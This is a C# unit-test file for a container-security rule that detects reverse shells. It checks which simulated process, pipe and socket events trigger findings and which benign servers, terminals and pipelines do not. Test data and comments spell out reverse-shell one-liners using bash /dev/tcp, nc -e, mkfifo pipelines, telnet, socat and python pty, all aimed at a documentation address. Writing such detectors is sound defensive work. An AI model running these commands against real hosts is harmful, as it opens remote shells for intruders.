using KubeCop.Core.Events;
using KubeCop.Core.Rules;
using KubeCop.Core.Rules.Matching;
using KubeCop.Core.Rules.Signatures;
using KubeCop.Testing;

namespace KubeCop.Tests.Core.Rules;

public sealed class ReverseShellTests
{
    private const string Peer = "192.0.2.9:4444";
    private const string Connected = $"socket {Peer}";

    private IRule _rule = ReverseShell.Type.Create(RuleArguments.Default).ForContainer();
    private double _now = 1;

    public static TheoryData<string, string> Sockets => new()
    {
        { "bash -i >& /dev/tcp/… 0>&1", "bash -i" },
        { "nc -e /bin/sh", "sh" },
        { "python os.dup2, subprocess.call", "/bin/sh -i" },
        { "perl exec", "sh -i" },
        { "an interpreter", "python3" },
    };

    [Theory]
    [MemberData(nameof(Sockets))]
    public void Shell_OnAConnection_Fires(string name, string arguments)
    {
        var finding = Exec(10, 1, arguments, Connected, Connected, Connected);
        Assert.True(finding is not null, name);
        Assert.Contains($"takes its commands from a connection with {Peer}", finding.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void Command_OnAConnectionTheContainerBegan_Fires()
    {
        Connect(10);
        Assert.NotNull(Exec(10, 1, "sh -c id", Connected, Connected));
        Assert.NotNull(Exec(11, 10, "python3 -c pty", Connected, Connected));
    }

    /// <summary>A server of the inetd kind: the client's port is chosen by its system.</summary>
    [Fact]
    public void Script_OnAConnectionOthersBegan_IsNone()
    {
        Connect(10, "192.0.2.9", 5432);
        Assert.Null(Exec(11, 10, "sh /srv/agent.sh", "socket 192.0.2.9:51234", "socket 192.0.2.9:51234"));
        Assert.Null(Exec(12, 10, "sh -c id", "socket 192.0.2.9:51235", "socket 192.0.2.9:51235"));
    }

    [Theory]
    [InlineData(Connected, "pipe:[1]")]
    [InlineData(Connected, "file")]
    [InlineData("file", Connected)]
    [InlineData("socket 0.0.0.0:0", "socket 0.0.0.0:0")] // one that listens
    [InlineData("socket [::]:0", "socket [::]:0")]
    [InlineData("socket", "socket")]
    [InlineData("terminal", "terminal")]
    [InlineData("pipe", "pipe")]
    [InlineData("closed", "closed")]
    public void Shell_WithoutAConnectionOnBoth_IsNone(string input, string output) => Assert.Null(Exec(10, 1, "sh -i", input, output));

    [Fact]
    public void Program_OnAConnection_IsNone() => Assert.Null(Exec(10, 1, "cat", Connected, Connected));

    [Fact]
    public void Shell_ThatIsRefused_IsNone() =>
        Assert.Null(Evaluate(Sample.Refused(Sample.On(Sample.Exec("/bin/sh"), Sample.Process(10), Connected, Connected))));

    /// <summary>rm f; mkfifo f; cat f | sh -i 2>&amp;1 | nc HOST PORT > f, started in whatever order.</summary>
    [Theory]
    [InlineData("cat,sh,nc", true)]
    [InlineData("nc,sh,cat", true)]
    [InlineData("sh,nc,cat", true)]
    [InlineData("cat,sh,relay,connect", true)]
    [InlineData("relay,connect,sh,cat", true)]
    [InlineData("cat,sh,relay", false)]
    [InlineData("cat,sh,log", false)]
    [InlineData("cat,sh,log,connect", false)] // a collector of logs: nothing leads back
    [InlineData("cat,script,nc", false)]
    public void Pipeline_ByANamedPipe_FiresWhenItIsComplete(string order, bool fires)
    {
        Exec(2, 1, "sh -c pipeline", "other", "pipe:[90]");
        var findings = order.Split(',').Select(step => step switch
        {
            "cat" => Exec(10, 2, "cat f", "other", "pipe:[1]"),
            "sh" => Exec(11, 2, "sh -i", "pipe:[1]", "pipe:[2]", "pipe:[2]"),
            "script" => Exec(11, 2, "sh script", "pipe:[1]", "pipe:[2]"),
            "nc" => Exec(12, 2, "nc 192.0.2.9 4444", "pipe:[2]", "fifo:[0:45:7]"),
            "relay" => Exec(12, 2, "/srv/relay", "pipe:[2]", "fifo:[0:45:7]"),
            "log" => Exec(12, 2, "/srv/log", "pipe:[2]", "file"),
            _ => Connect(12),
        }).OfType<Finding>().ToList();

        Assert.Equal(fires ? 1 : 0, findings.Count);
        Assert.All(findings, static finding => Assert.StartsWith("/bin/sh", finding.Subject, StringComparison.Ordinal));
    }

    /// <summary>mkfifo f; telnet HOST PORT 0&lt;f | sh 1>f</summary>
    [Fact]
    public void Pipes_FromAndToTheSameRelay_Fire()
    {
        Exec(10, 1, "telnet 192.0.2.9 4444", "fifo:[0:45:7]", "pipe:[1]");
        Assert.Contains("pipes held by /bin/telnet (pid 10)", Exec(11, 1, "sh", "pipe:[1]", "fifo:[0:45:7]")?.Message, StringComparison.Ordinal);
    }

    /// <summary>telnet HOST A | sh | telnet HOST B</summary>
    [Fact]
    public void Pipes_FromOneRelayToAnother_Fire()
    {
        Exec(10, 1, "telnet 192.0.2.9 4444", "other", "pipe:[1]");
        Assert.Null(Exec(11, 1, "sh", "pipe:[1]", "pipe:[2]"));
        Assert.NotNull(Exec(12, 1, "telnet 192.0.2.9 4445", "pipe:[2]", "other"));
    }

    [Fact]
    public void Pipes_WithAFilterBetween_Fire()
    {
        Exec(10, 1, "cat f", "other", "pipe:[1]");
        Exec(11, 1, "sh -i", "pipe:[1]", "pipe:[2]");
        Exec(12, 1, "tee log", "pipe:[2]", "pipe:[3]");
        Assert.NotNull(Exec(13, 1, "nc 192.0.2.9 4444", "pipe:[3]", "fifo:[0:45:7]"));
    }

    /// <summary>curl … | sh, with the container's own output a pipe.</summary>
    [Fact]
    public void Download_PipedIntoAShell_IsNone()
    {
        Exec(2, 1, "sh /entrypoint.sh", "other", "pipe:[90]");
        Exec(10, 2, "curl https://get.example", "other", "pipe:[1]");
        Connect(10);
        Assert.Null(Exec(11, 2, "sh", "pipe:[1]", "pipe:[90]"));
        Exec(12, 2, "curl https://get.example", "other", "pipe:[2]");
        Exec(13, 2, "tee log", "pipe:[3]", "pipe:[90]");
        Assert.Null(Exec(14, 2, "sh", "pipe:[2]", "pipe:[3]"));
    }

    [Fact]
    public void Relay_ThatHasEnded_HoldsNothing()
    {
        Exec(10, 1, "cat f", "other", "pipe:[1]");
        Exec(12, 1, "nc 192.0.2.9 4444", "pipe:[2]", "fifo:[0:45:7]");
        Evaluate(Sample.Exit(12));
        Assert.Null(Exec(11, 1, "sh -i", "pipe:[1]", "pipe:[2]"));
    }

    /// <summary>subprocess.Popen with pipes, child_process.spawn with socket pairs; the connection before or after.</summary>
    [Theory]
    [InlineData("pipe:[1]", "pipe:[2]", true)]
    [InlineData("socket:[1]", "socket:[2]", true)]
    [InlineData("pipe:[1]", "pipe:[2]", false)]
    public void Pipes_MadeByAProcessThatConnects_Fire(string input, string output, bool isConnectedBefore)
    {
        Exec(10, 1, "node server.js", "other", "pipe:[90]");
        var connected = isConnectedBefore ? Connect(10) : null;
        var started = Exec(11, 10, "sh", input, output, output);
        connected ??= isConnectedBefore ? null : Connect(10);

        var finding = isConnectedBefore ? started : connected;
        Assert.Contains($"pipes made by /bin/node (pid 10), which is connected to {Peer}", finding?.Message, StringComparison.Ordinal);
        Assert.Null(Connect(10));
    }

    [Theory]
    [InlineData("sh -c id", "pipe:[1]", "pipe:[2]")] // child_process.exec, system(), popen()
    [InlineData("sh script", "pipe:[1]", "pipe:[2]")] // CGI
    [InlineData("cat", "pipe:[1]", "pipe:[2]")]
    [InlineData("sh", "pipe:[1]", "pipe:[90]")] // its output is the server's
    [InlineData("sh", "other", "pipe:[2]")]
    [InlineData("sh", "pipe:[1]", "file")]
    public void WhatConnectedServersStart_IsNone(string arguments, string input, string output)
    {
        Exec(10, 1, "server", "other", "pipe:[90]");
        Connect(10);
        Assert.Null(Exec(11, 10, arguments, input, output));
    }

    [Fact]
    public void Shell_OfAServerThatOthersConnectTo_IsNone()
    {
        Exec(10, 1, "server", "other", "pipe:[90]");
        Evaluate(Sample.Network(NetworkAction.Accept, "tcp", "192.0.2.9", 80) with { Process = Sample.Process(10) });
        Connect(10, "10.96.0.10", 53);
        Assert.Null(Exec(11, 10, "sh", "pipe:[1]", "pipe:[2]"));
    }

    /// <summary>python -c '…connect…; pty.spawn("/bin/sh")'</summary>
    [Fact]
    public void Terminal_MadeByAProcessThatIsConnected_Fires()
    {
        Exec(10, 1, "python3 -c x", "other", "pipe:[90]");
        Connect(10);
        Fork(11, 10);
        Assert.Contains("a terminal made by /bin/python3", Exec(11, 10, "sh", "terminal", "terminal", "terminal")?.Message, StringComparison.Ordinal);
    }

    /// <summary>socat exec:'bash -li',pty tcp:…, which starts the shell first.</summary>
    [Fact]
    public void Terminal_MadeByARelay_Fires()
    {
        Exec(10, 1, "socat exec:sh,pty tcp:192.0.2.9:4444", "other", "other");
        Assert.NotNull(Exec(11, 10, "bash -li", "terminal", "terminal", "terminal"));
    }

    [Fact]
    public void Terminal_OfAnOperator_IsNone()
    {
        // kubectl exec -it; then a client that connects and starts a shell where it stands.
        Assert.Null(Exec(10, 1, "bash", "terminal", "terminal", "terminal"));
        Exec(11, 10, "psql", "terminal", "terminal", "terminal");
        Connect(11);
        Assert.Null(Exec(12, 11, "sh", "terminal", "terminal", "terminal"));
    }

    [Fact]
    public void Terminal_OfALogin_IsNone()
    {
        // ssh -L: the server's process of this session makes the connection of the tunnel.
        Exec(10, 1, "/usr/sbin/sshd -D", "other", "other");
        Fork(11, 10);
        Assert.Null(Exec(12, 11, "-bash", "terminal", "terminal", "terminal"));
        Assert.Null(Connect(11));
        Assert.Null(Exec(13, 11, "-bash", "terminal", "terminal", "terminal"));
        // Another server's would be one.
        Exec(20, 1, "/srv/evil -D", "other", "other");
        Connect(20);
        Assert.NotNull(Exec(21, 20, "bash", "terminal", "terminal", "terminal"));
    }

    [Fact]
    public void Terminal_ThatWasThereBeforeTheConnection_IsNone()
    {
        Exec(10, 1, "tmux", "other", "other");
        Assert.Null(Exec(11, 10, "bash", "terminal", "terminal", "terminal"));
        Assert.Null(Connect(10));
    }

    [Fact]
    public void Shell_BornOfAShellThatGotItsPipes_IsTracedToWhoMadeThem()
    {
        Exec(10, 1, "ncat --sh-exec bash 192.0.2.9 4444", "other", "other");
        Exec(11, 10, "sh -c bash", "pipe:[1]", "pipe:[2]");
        Assert.Contains("made by /bin/ncat (pid 10)", Exec(12, 11, "bash", "pipe:[1]", "pipe:[2]")?.Message, StringComparison.Ordinal);
    }

    [Fact]
    public void IgnoredParent_OfABinding_MayGiveShells()
    {
        _rule = With("/srv/ttyd").ForContainer();
        Exec(10, 1, "/srv/ttyd bash", "other", "other");
        Connect(10);
        Assert.Null(Exec(11, 10, "bash", "terminal", "terminal", "terminal"));
        Assert.Null(Exec(12, 10, "bash", "pipe:[1]", "pipe:[2]"));
        Assert.Null(Exec(13, 10, "bash", Connected, Connected));
        Exec(20, 1, "/srv/ttydx bash", "other", "other");
        Assert.NotNull(Exec(21, 20, "bash", Connected, Connected));
    }

    [Fact]
    public void IgnoredParent_OfABinding_TakesThePlaceOfTheDefault()
    {
        _rule = With("/srv/ttyd").ForContainer();
        Exec(10, 1, "/usr/sbin/sshd -D", "other", "other");
        Connect(10);
        Assert.NotNull(Exec(11, 10, "bash", "terminal", "terminal", "terminal"));
    }

    [Fact]
    public void Containers_DoNotShareWhatTheyRemember()
    {
        Exec(10, 1, "python3 -c x", "other", "pipe:[90]");
        Connect(10);
        _rule = _rule.ForContainer();
        Assert.Null(Exec(11, 10, "sh", "pipe:[1]", "pipe:[2]"));
    }

    [Fact]
    public void ManyProcesses_AreForgottenFromTheOldest()
    {
        var processes = new ConnectedProcesses(maxProcesses: 8);
        for (var pid = 10u; pid < 30; pid++)
        {
            processes.Exec(Sample.On(Sample.Exec("/bin/sh"), Sample.Process(pid), "pipe:[1]", "pipe:[2]"));
            Assert.InRange(processes.Count, 1, 8);
        }

        Assert.True(processes.TryGet(Sample.Key(29), out _));
        Assert.False(processes.TryGet(Sample.Key(10), out _));
        Assert.Equal(processes.Count, processes.Waiting.Length);
    }

    [Fact]
    public void WaitingShells_AreBounded()
    {
        var processes = new ConnectedProcesses();
        for (var pid = 10u; pid < 1010; pid++)
        {
            processes.Exec(Sample.On(Sample.Exec("/bin/sh"), Sample.Process(pid), "pipe:[1]", "pipe:[2]"));
        }

        Assert.Equal(256, processes.Waiting.Length);
        Assert.Equal(Sample.Key(1009), processes.Waiting[^1]);
        processes.Exec(Sample.On(Sample.Exec("/bin/cat"), Sample.Process(1009), "pipe:[1]", "pipe:[2]"));
        processes.Exit(Sample.Key(1008));
        Assert.Equal(254, processes.Waiting.Length);
    }

    [Fact]
    public void OrdinaryProcesses_AllocateNothing()
    {
        var context = new RuleContext(Sample.Container, null);
        SensorEvent[] events =
        [
            Sample.Fork(20, 10), Sample.On(Sample.Exec("/bin/sh", args: ["sh", "-c", "id"]), Sample.Process(20, 10), "pipe:[1]", "pipe:[2]", "other"),
            Sample.Connect("192.0.2.9", 80) with { Process = Sample.Process(20, 10) },
            Sample.Fork(21, 20), Sample.On(Sample.Exec("/bin/sh"), Sample.Process(21, 20), "pipe:[3]", "file", "other"), Sample.Exit(21), Sample.Exit(20),
        ];
        Judge();
        Assert.Equal(0, Allocations.Of(() =>
        {
            for (var round = 0; round < 1000; round++)
            {
                Judge();
            }
        }));

        void Judge()
        {
            foreach (var sensorEvent in events)
            {
                Assert.Null(_rule.Evaluate(sensorEvent, context));
            }
        }
    }

    private static IRule With(params string[] ignoreParents)
    {
        var type = ReverseShell.Type;
        return type.Create(RuleArguments.Read(type.Descriptor, new Dictionary<string, object?> { ["ignoreParents"] = ignoreParents }));
    }

    /// <param name="arguments">argv; a program without a directory is in /bin.</param>
    private Finding? Exec(uint pid, uint parent, string arguments, params string[] streams)
    {
        var argv = arguments.Split(' ');
        var path = argv[0].StartsWith('/') ? argv[0] : $"/bin/{argv[0].TrimStart('-')}";
        return Evaluate(Sample.On(Sample.Exec(path, at: _now++, args: argv), Sample.Process(pid, parent), streams));
    }

    private Finding? Connect(uint pid, string address = "192.0.2.9", ushort port = 4444) =>
        Evaluate(Sample.Connect(address, port, at: _now++) with { Process = Sample.Process(pid) });

    private void Fork(uint pid, uint parent) => Assert.Null(Evaluate(Sample.Fork(pid, parent)));

    private Finding? Evaluate(SensorEvent sensorEvent) => _rule.Evaluate(sensorEvent, new RuleContext(Sample.Container, null));
}
